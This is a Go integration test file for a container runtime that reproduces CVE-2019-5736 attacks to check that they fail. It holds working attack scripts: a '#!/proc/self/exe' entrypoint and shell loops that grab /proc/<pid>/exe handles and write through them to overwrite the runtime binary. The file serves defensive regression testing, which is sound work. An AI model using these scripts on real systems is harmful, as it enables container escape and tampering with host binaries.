package integration

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// Attacks of known runtime CVE classes against the runtime under test. Each
// test is a real attack, run as the container (or an image, or a racing
// process) would run it, and asserts that it fails and that the host is
// untouched. A comment above each test says whether the right behaviour is
// "refused" (the runtime fails with an error) or "contained" (the operation
// happens, but inside the container's root).
//
// This file holds the shared helpers and CVE-2019-5736 (overwriting the
// runtime binary through /proc/<pid>/exe); cve_fds_test.go holds
// CVE-2024-21626 (leaked fds and cwd), cve_paths_test.go the path attacks
// (symlinked or swapped mount targets, /dev/null, /dev/console, /proc,
// /sys, /dev).

// cveRootfs builds a private, writable busybox rootfs (the shared one is
// read-only to every test) and returns its path.
func (e *env) cveRootfs(name string) string {
	e.t.Helper()
	dir := e.path(name)
	if err := buildRootfs(dir); err != nil {
		e.t.Fatal(err)
	}
	return dir
}

// cveAddLibs copies the dynamic loader and libraries of bin into rootfs
// (at their host paths), as any glibc image has them: without them the
// kernel cannot start a dynamically linked runtime binary inside the
// container, and an exec of "#!/proc/self/exe" fails with ENOENT before
// any attack can start.
func cveAddLibs(t *testing.T, rootfs, bin string) {
	t.Helper()
	out, err := exec.Command("ldd", bin).CombinedOutput() // "not a dynamic executable" is on stderr
	if err != nil {
		if strings.Contains(string(out), "not a dynamic executable") {
			return
		}
		t.Skipf("ldd %s: %v (needed to put the runtime's libraries in the image)", bin, err)
	}
	for _, l := range lines(string(out)) {
		f := strings.Fields(l)
		var lib string
		switch {
		case len(f) >= 3 && f[1] == "=>":
			lib = f[2]
		case len(f) >= 1 && strings.HasPrefix(f[0], "/"):
			lib = f[0]
		default:
			continue
		}
		dst := filepath.Join(rootfs, lib)
		if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := copyFile(lib, dst, 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// cveUseRootfs points c at rootfs, writable.
func (c *ctr) cveUseRootfs(rootfs string) {
	c.Spec.Root = &specs.Root{Path: rootfs}
}

// cveCommand is e.command for another binary than the runtime under test
// (a copy of it that an attack may damage).
func (e *env) cveCommand(bin string, args ...string) *exec.Cmd {
	e.t.Helper()
	cmd := e.command(args...)
	cmd.Path = bin
	cmd.Args[0] = bin
	return cmd
}

// cveRuntimeCopy copies the runtime under test into the test's scratch
// directory and returns the copy's path and sha256: an attack on the
// runtime binary then damages nothing but the copy.
func (e *env) cveRuntimeCopy() (string, string) {
	e.t.Helper()
	dst := e.path("bin/" + filepath.Base(runtimeBin))
	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
		e.t.Fatal(err)
	}
	if err := copyFile(runtimeBin, dst, 0o755); err != nil {
		e.t.Fatal(err)
	}
	return dst, cveSha256(e.t, dst)
}

func cveSha256(t *testing.T, path string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// cveSigDir makes a host directory bound rw at /sig in the container: the
// test tells the attacker when to strike by creating files in it.
func (c *ctr) cveSigDir() string {
	c.e.t.Helper()
	dir := c.e.path("sig-" + c.ID)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		c.e.t.Fatal(err)
	}
	c.Spec.Mounts = append(c.Spec.Mounts, specs.Mount{Destination: "/sig", Type: "bind", Source: dir, Options: []string{"rbind", "rw"}})
	return dir
}

// cveSignal creates the file name in a signal directory.
func cveSignal(t *testing.T, dir, name string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), nil, 0o644); err != nil {
		t.Fatal(err)
	}
}

// cveCreateStart creates and starts c with the binary bin, keeping the
// container's stdout in c.out.
func (c *ctr) cveCreateStart(bin string) {
	c.e.t.Helper()
	c.write()
	r := c.e.exec(c.e.cveCommand(bin, "create", "-b", c.Bundle, c.ID))
	if r.code != 0 {
		c.e.t.Fatalf("%s\nwant exit 0", r)
	}
	c.out = r.stdoutPath
	if r := c.e.exec(c.e.cveCommand(bin, "start", c.ID)); r.code != 0 {
		c.e.t.Fatalf("%s\nwant exit 0", r)
	}
}

// cveWait waits for a command whose stdout may be a pipe (which collect
// cannot read back), killing it after cmdTimeout; it returns the exit code
// and stderr.
func (e *env) cveWait(cmd *exec.Cmd) (int, string) {
	e.t.Helper()
	timer := time.AfterFunc(cmdTimeout, func() { _ = cmd.Process.Kill() })
	_ = cmd.Wait()
	if !timer.Stop() {
		e.t.Errorf("%v timed out after %v", cmd.Args, cmdTimeout)
	}
	var stderr string
	if f, ok := cmd.Stderr.(*os.File); ok {
		f.Close()
		b, _ := os.ReadFile(f.Name())
		stderr = string(b)
	}
	return cmd.ProcessState.ExitCode(), stderr
}

// cveWaitOutput is c.waitOutput with a longer limit, for output that
// comes after a race the attacker may take a while to win on a busy host.
func (c *ctr) cveWaitOutput(limit time.Duration, want ...string) string {
	c.e.t.Helper()
	var out string
	waitFor(c.e.t, limit, func() bool {
		out = c.output()
		for _, w := range want {
			if strings.Contains(out, w) {
				return true
			}
		}
		return false
	}, func() string { return fmt.Sprintf("container output %q contains none of %q", out, want) })
	return out
}

// cveFullPipe returns a pipe whose buffer is already full: a process that
// writes to w blocks until the test drains r. It holds a process of the
// attack still for as long as the attacker needs, without racing it.
func cveFullPipe(t *testing.T) (r, w *os.File) {
	t.Helper()
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_CLOEXEC|unix.O_NONBLOCK); err != nil {
		t.Fatal(err)
	}
	chunk := make([]byte, 4096)
	for len(chunk) > 0 {
		if _, err := unix.Write(p[1], chunk); err == unix.EAGAIN {
			chunk = chunk[:len(chunk)/2] // top up the last bytes
		} else if err != nil {
			t.Fatal(err)
		}
	}
	for _, fd := range p {
		if err := unix.SetNonblock(fd, false); err != nil {
			t.Fatal(err)
		}
	}
	return os.NewFile(uintptr(p[0]), "full-pipe-r"), os.NewFile(uintptr(p[1]), "full-pipe-w")
}

// cveEvil is an entrypoint that makes whoever execs it run its own binary:
// the kernel resolves the interpreter /proc/self/exe in the exec'ing
// process, which is the runtime's init. --version makes the runtime write
// one line to stdout and exit; with stdout a full pipe it blocks instead,
// so the attacker has all the time it needs to grab /proc/<pid>/exe.
const cveEvil = "#!/proc/self/exe --version\n"

// cveGrabScript is the attacker of CVE-2019-5736, run as the container's
// pid 1: it opens (read-only: nothing else is allowed while the binary
// runs) /proc/<pid>/exe of the first process that is not busybox, waits
// for the test to say that no runtime process is left (/sig/done), then
// writes through its handle, which reopens the very file the runtime ran
// from.
const cveGrabScript = `echo ready
g=
i=0
while [ -z "$g" ] && [ $i -lt 2000 ] && [ ! -e /sig/giveup ]; do
	i=$((i+1))
	for p in /proc/[0-9]*; do
		[ "$p" = /proc/1 ] && continue
		command exec 3<"$p/exe" 2>/dev/null || continue
		l=$(readlink /proc/self/fd/3)
		if [ "$l" = /bin/busybox ]; then exec 3<&-; continue; fi
		g="$p $l"
		break
	done
	[ -n "$g" ] || sleep 0.01
done
echo "grabbed $g"
[ -n "$g" ] || exit 1
while [ ! -e /sig/done ]; do sleep 0.05; done
if err=$( (echo PWNED >> /proc/self/fd/3) 2>&1 ); then echo wrote; else echo "write failed: $err"; fi
echo end`

// cveCheckOverwrite checks the end of cveGrabScript's output and the
// runtime copy.
func cveCheckOverwrite(t *testing.T, out, bin, sum string) {
	t.Helper()
	if strings.Contains(out, "\nwrote\n") || !strings.Contains(out, "write failed") {
		t.Errorf("the attacker's write through /proc/<pid>/exe went through:\n%s", out)
	}
	if got := cveSha256(t, bin); got != sum {
		t.Errorf("the runtime binary %s was modified: sha256 %s, was %s", bin, got, sum)
	}
}

// CVE-2019-5736 through `exec`: the container's pid 1 waits for the
// runtime to exec an entrypoint "#!/proc/self/exe" (so the runtime's own
// binary runs inside the container, dumpable, as the container's user),
// grabs /proc/<pid>/exe, and once every runtime process is gone writes
// through it. Expectation: contained - the runtime runs from a sealed copy
// (read-only mount or sealed memfd), so the write fails and the binary on
// the host is unchanged.
func TestCVE_2019_5736_ExecShebangOverwrite(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	bin, sum := e.cveRuntimeCopy()
	rootfs := e.cveRootfs("rootfs")
	cveAddLibs(t, rootfs, bin)
	if err := os.WriteFile(filepath.Join(rootfs, "evil"), []byte(cveEvil), 0o755); err != nil {
		t.Fatal(err)
	}
	c := e.newCtr("sh", "-c", cveGrabScript)
	c.cveUseRootfs(rootfs)
	sig := c.cveSigDir()
	defer cveSignal(t, sig, "giveup")
	c.cveCreateStart(bin)
	c.waitOutput("ready")

	pr, pw := cveFullPipe(t)
	defer pr.Close()
	cmd := e.cveCommand(bin, "exec", c.ID, "/evil")
	cmd.Stdout = pw
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	pw.Close()
	out := c.cveWaitOutput(40*time.Second, "grabbed")
	go func() { _, _ = io.Copy(io.Discard, pr) }()
	if code, stderr := e.cveWait(cmd); code != 0 {
		t.Errorf("%v: exit %d, stderr %q; want exit 0 (the runtime printed its version)", cmd.Args, code, stderr)
	}
	if !strings.Contains(out, "grabbed /proc/") {
		t.Fatalf("the attacker never got a handle on the runtime's binary (the test proves nothing):\n%s", out)
	}
	cveSignal(t, sig, "done")
	out = c.waitOutput("end")
	t.Logf("attacker: %s", strings.Join(lines(out), " | "))
	cveCheckOverwrite(t, out, bin, sum)
}

// CVE-2019-5736 across containers of one pod: the attacker container and
// a victim container share a pid namespace; the victim's entrypoint is
// "#!/proc/self/exe", so the runtime's init execs the runtime binary as
// the victim's process. Expectation: contained, as above.
func TestCVE_2019_5736_SharedPidNamespaceEntrypoint(t *testing.T) {
	t.Parallel()
	requireNS(t, "pid")
	e := newEnv(t)
	bin, sum := e.cveRuntimeCopy()
	rootfs := e.cveRootfs("rootfs")
	cveAddLibs(t, rootfs, bin)
	if err := os.WriteFile(filepath.Join(rootfs, "evil"), []byte(cveEvil), 0o755); err != nil {
		t.Fatal(err)
	}
	attacker := e.newCtr("sh", "-c", cveGrabScript)
	attacker.cveUseRootfs(rootfs)
	sig := attacker.cveSigDir()
	defer cveSignal(t, sig, "giveup")
	attacker.cveCreateStart(bin)
	attacker.waitOutput("ready")
	pid := attacker.mustState().Pid

	victim := e.newCtr("/evil")
	victim.cveUseRootfs(rootfs)
	setNS(victim.Spec, specs.PIDNamespace, "/proc/"+strconv.Itoa(pid)+"/ns/pid")
	victim.write()
	pr, pw := cveFullPipe(t)
	defer pr.Close()
	cmd := e.cveCommand(bin, "create", "-b", victim.Bundle, victim.ID)
	cmd.Stdout = pw
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	pw.Close()
	if code, stderr := e.cveWait(cmd); code != 0 {
		t.Fatalf("%v: exit %d, stderr %q; want exit 0", cmd.Args, code, stderr)
	}
	if r := e.exec(e.cveCommand(bin, "start", victim.ID)); r.code != 0 {
		t.Fatalf("%s\nwant exit 0", r)
	}
	out := attacker.cveWaitOutput(40*time.Second, "grabbed")
	go func() { _, _ = io.Copy(io.Discard, pr) }()
	if !strings.Contains(out, "grabbed /proc/") {
		t.Fatalf("the attacker never got a handle on the runtime's binary (the test proves nothing):\n%s", out)
	}
	victim.waitStatus("stopped")
	cveSignal(t, sig, "done")
	out = attacker.waitOutput("end")
	t.Logf("attacker: %s", strings.Join(lines(out), " | "))
	cveCheckOverwrite(t, out, bin, sum)
}

// cveInitExeScript is run by `exec` in a created container, whose pid 1 is
// still the runtime's init stage: it tries to open /proc/1/exe and, if it
// can, writes through the handle once pid 1 has exec'd the user process.
const cveInitExeScript = `echo "open $( (exec 3</proc/1/exe) 2>&1 && echo ok)"
if command exec 3</proc/1/exe 2>/dev/null; then
	echo "grabbed $(readlink /proc/self/fd/3)"
	while [ ! -e /sig/done ]; do sleep 0.05; done
	if err=$( (echo PWNED >> /proc/self/fd/3) 2>&1 ); then echo wrote; else echo "write failed: $err"; fi
fi
echo end`

// CVE-2019-5736 against the init stage itself: a process joins a created
// container (whose pid 1 is the runtime, waiting for start) and opens
// /proc/1/exe. Expectation: without CAP_SYS_PTRACE the open is refused
// (the init is not dumpable until the user process runs); with it (which
// overrides dumpable) the handle leads to a sealed copy, so writing through
// it after the init exec'd the user process fails and the binary is
// unchanged.
func TestCVE_2019_5736_CreatedInitExe(t *testing.T) {
	t.Parallel()
	for _, ptrace := range []bool{false, true} {
		name := map[bool]string{false: "no-ptrace", true: "CAP_SYS_PTRACE"}[ptrace]
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t)
			bin, sum := e.cveRuntimeCopy()
			c := e.newCtr("sleep", "1000")
			sig := c.cveSigDir()
			c.write()
			r := e.exec(e.cveCommand(bin, "create", "-b", c.Bundle, c.ID))
			if r.code != 0 {
				t.Fatalf("%s\nwant exit 0", r)
			}
			p := *c.Spec.Process
			p.Args = []string{"sh", "-c", cveInitExeScript}
			if ptrace {
				caps := append([]string{"CAP_SYS_PTRACE"}, p.Capabilities.Bounding...)
				p.Capabilities = &specs.LinuxCapabilities{Bounding: caps, Effective: caps, Permitted: caps}
			}
			pj := e.path("process-" + c.ID + ".json")
			data, _ := json.Marshal(p)
			if err := os.WriteFile(pj, data, 0o644); err != nil {
				t.Fatal(err)
			}
			r = e.exec(e.cveCommand(bin, "exec", "-d", "-p", pj, c.ID))
			if r.code != 0 {
				t.Fatalf("%s\nwant exit 0", r)
			}
			att := &ctr{e: e, ID: c.ID, out: r.stdoutPath}
			out := att.cveWaitOutput(20*time.Second, "grabbed", "end")
			if !ptrace {
				grabbed := strings.Contains(out, "grabbed")
				switch {
				case grabbed && !isHull:
					// runc 1.1's init is dumpable while it waits for
					// start: only the sealed clone protects its binary,
					// which the write below tests.
					t.Logf("%s let a process without CAP_SYS_PTRACE open /proc/1/exe of its init", filepath.Base(runtimeBin))
				case grabbed:
					t.Errorf("a process without CAP_SYS_PTRACE opened /proc/1/exe of the init stage (it must not be dumpable):\n%s", out)
				case !strings.Contains(out, "ermission denied"):
					t.Errorf("opening /proc/1/exe: %q, want permission denied", out)
				}
				if !grabbed {
					return
				}
			}
			if !strings.Contains(out, "grabbed") {
				t.Fatalf("with CAP_SYS_PTRACE the attacker could not open /proc/1/exe (the test proves nothing):\n%s", out)
			}
			if r := e.exec(e.cveCommand(bin, "start", c.ID)); r.code != 0 {
				t.Fatalf("%s\nwant exit 0", r)
			}
			c.waitStatus("running")
			// pid 1 is sleep now: no process runs the runtime binary
			waitFor(t, 10*time.Second, func() bool {
				l, _ := os.Readlink("/proc/" + strconv.Itoa(c.mustState().Pid) + "/exe")
				return strings.HasSuffix(l, "busybox")
			}, func() string { return "the container's pid 1 did not exec sleep" })
			cveSignal(t, sig, "done")
			out = att.waitOutput("end")
			t.Logf("attacker: %s", strings.Join(lines(out), " | "))
			cveCheckOverwrite(t, out, bin, sum)
		})
	}
}
